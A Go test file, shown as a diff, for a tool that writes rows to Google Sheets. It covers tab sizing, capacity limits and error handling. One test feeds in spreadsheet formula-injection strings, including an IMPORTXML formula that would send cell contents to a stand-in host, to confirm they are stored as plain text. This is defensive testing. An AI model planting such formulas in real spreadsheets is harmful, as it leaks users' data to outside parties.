@@ -1,0 +1,179 @@
+package runner_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+
+	"ringi/shared/tool"
+	"ringi/shared/tool/sheets"
+)
+
+const sheetTool = "write_rows_to_google_sheet"
+
+func TestRowsAreWrittenRaw(t *testing.T) {
+	w := newWorld(t)
+	want := [][]any{{"Name", "Hours"}, {"=1+1", 1.5}, {"", true}, {"", "[1]"}}
+	for range 2 { // the second time, the tab is there, and the same call leaves the same
+		var out sheets.Written
+		w.run(t, sheetTool, sheetArgs, &out)
+		if d := cmp.Diff(sheets.Written{
+			SpreadsheetID: "ringi-demo-sheet", UpdatedRange: "'tab ''a'''!A1:B4", UpdatedRows: 3, UpdatedCells: 8, URL: w.url + "/sheets/ringi-demo-sheet",
+		}, out); d != "" {
+			t.Error(d)
+		}
+		if d := cmp.Diff(want, w.vendors.Rows("ringi-demo-sheet", "tab 'a'")); d != "" {
+			t.Error(d)
+		}
+	}
+	if tabs := w.vendors.Tabs(); len(tabs) != 1 {
+		t.Errorf("tabs: %v", tabs)
+	}
+}
+
+// What a cell begins with must not make it a formula: whoever fills in a form could read other cells with it, and send them away.
+func TestFormulasStayText(t *testing.T) {
+	w := newWorld(t)
+	texts := []string{`=IMPORTXML("https://example.com/?"&A1,"//a")`, `=HYPERLINK("https://example.com","x")`, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "'=1", "2026-03-31", "TRUE", "007"}
+	var rows []map[string]string
+	want := [][]any{{"=TITLE()"}}
+	for _, text := range texts {
+		rows = append(rows, map[string]string{"v": text})
+		want = append(want, []any{text})
+	}
+	b, err := json.Marshal(map[string]any{
+		"spreadsheet_id": "ringi-demo-sheet", "sheet": "=A1", "columns": []any{map[string]string{"key": "v", "title": "=TITLE()"}}, "rows": rows,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out sheets.Written
+	w.run(t, sheetTool, string(b), &out) // the stand-in refuses all but RAW
+	if d := cmp.Diff(want, w.vendors.Rows("ringi-demo-sheet", "=A1")); d != "" {
+		t.Error(d)
+	}
+}
+
+// table is a call that writes so many rows of so many columns.
+func table(t *testing.T, tab string, rows, columns int) string {
+	t.Helper()
+	var titles []map[string]string
+	for i := range columns {
+		titles = append(titles, map[string]string{"key": "v", "title": fmt.Sprint(i)})
+	}
+	lines := make([]map[string]int, rows)
+	for i := range lines {
+		lines[i] = map[string]int{"v": i}
+	}
+	b, err := json.Marshal(map[string]any{"spreadsheet_id": "ringi-demo-sheet", "sheet": tab, "columns": titles, "rows": lines})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
+func TestATabIsAsLargeAsItsTable(t *testing.T) {
+	for name, test := range map[string]struct{ height, width, rows, columns int }{
+		"a new tab, many rows":          {0, 0, 1500, 2},
+		"a new tab, many columns":       {0, 0, 2, 30},
+		"a tab that is too short":       {10, 26, 10, 2},
+		"a tab that is too narrow":      {1000, 2, 10, 3},
+		"a tab that is just large":      {11, 2, 10, 2},
+		"a tab that is larger than all": {5000, 100, 10, 2},
+	} {
+		t.Run(name, func(t *testing.T) {
+			w := newWorld(t)
+			if test.height > 0 {
+				if err := w.vendors.Add("tab", test.height, test.width); err != nil {
+					t.Fatal(err)
+				}
+			}
+			var out sheets.Written
+			w.run(t, sheetTool, table(t, "tab", test.rows, test.columns), &out)
+			if rows := w.vendors.Rows("ringi-demo-sheet", "tab"); out.UpdatedRows != test.rows || len(rows) != test.rows+1 || len(rows[0]) != test.columns {
+				t.Errorf("%+v, %d rows", out, len(rows))
+			}
+		})
+	}
+}
+
+func TestASpreadsheetWithoutRoom(t *testing.T) {
+	for name, test := range map[string]struct {
+		others    int // rows of 1,000 cells in other tabs
+		tab       string
+		rows      int
+		full      bool
+		wouldHave string
+	}{
+		"the last cells are free":       {9974, "new", 900, false, ""},
+		"no room for another tab":       {9975, "new", 900, true, "10001000"},
+		"no room to enlarge":            {9999, "small", 1001, true, "10001004"},
+		"room in the tab that is there": {9999, "small", 400, false, ""},
+	} {
+		t.Run(name, func(t *testing.T) {
+			w := newWorld(t)
+			if err := w.vendors.Add("others", test.others, 1000); err != nil {
+				t.Fatal(err)
+			}
+			if test.tab == "small" {
+				if err := w.vendors.Add("small", 500, 2); err != nil {
+					t.Fatal(err)
+				}
+			}
+			if !test.full {
+				var out sheets.Written
+				w.run(t, sheetTool, table(t, test.tab, test.rows, 2), &out)
+				return
+			}
+			e := w.refuse(t, sheetTool, table(t, test.tab, test.rows, 2))
+			if e.Problem != tool.ProblemSheetFull || e.Outcome != tool.Failed || !strings.Contains(e.Detail, test.wouldHave) {
+				t.Errorf("%v: %s", e, e.Detail)
+			}
+			if n := w.paths.of("/sheets/v4/spreadsheets/ringi-demo-sheet:batchUpdate") + w.vendors.Calls(sheetTool); n != 0 {
+				t.Errorf("%d calls changed it", n)
+			}
+		})
+	}
+}
+
+func TestASheetWriteThatFails(t *testing.T) {
+	for name, test := range map[string]struct {
+		fault   func(w *world)
+		outcome tool.Outcome
+		problem tool.Problem
+		written bool
+	}{
+		"400":               {func(w *world) { w.vendors.Fail(sheetTool, 400, true) }, tool.Failed, tool.ProblemRejected, false},
+		"403":               {func(w *world) { w.vendors.Fail(sheetTool, 403, true) }, tool.Failed, tool.ProblemDenied, false},
+		"429":               {func(w *world) { w.vendors.Fail(sheetTool, 429, true) }, tool.Failed, tool.ProblemRateLimited, false},
+		"500":               {func(w *world) { w.vendors.Fail(sheetTool, 500, true) }, tool.Unknown, tool.ProblemDown, false},
+		"cut":               {func(w *world) { w.vendors.Drop(sheetTool) }, tool.Unknown, tool.ProblemLost, true},
+		"no answer in time": {func(w *world) { w.vendors.Hang(sheetTool, time.Minute) }, tool.Unknown, tool.ProblemTimeout, false},
+	} {
+		t.Run(name, func(t *testing.T) {
+			w := newWorld(t)
+			test.fault(w)
+			if e := w.refuse(t, sheetTool, sheetArgs); e.Outcome != test.outcome || e.Problem != test.problem {
+				t.Error(e)
+			}
+			if n := w.vendors.Calls(sheetTool); n != 1 {
+				t.Errorf("called %d times", n)
+			}
+			if rows := w.vendors.Rows("ringi-demo-sheet", "tab 'a'"); (len(rows) > 0) != test.written {
+				t.Errorf("rows: %v", rows)
+			}
+		})
+	}
+}
+
+func TestAnUnknownSpreadsheet(t *testing.T) {
+	w := newWorld(t)
+	e := w.refuse(t, sheetTool, strings.Replace(sheetArgs, "ringi-demo-sheet", "another", 1))
+	if e.Outcome != tool.Failed || e.Problem != tool.ProblemNotFound || w.vendors.Calls(sheetTool) != 0 {
+		t.Error(e)
+	}
+}
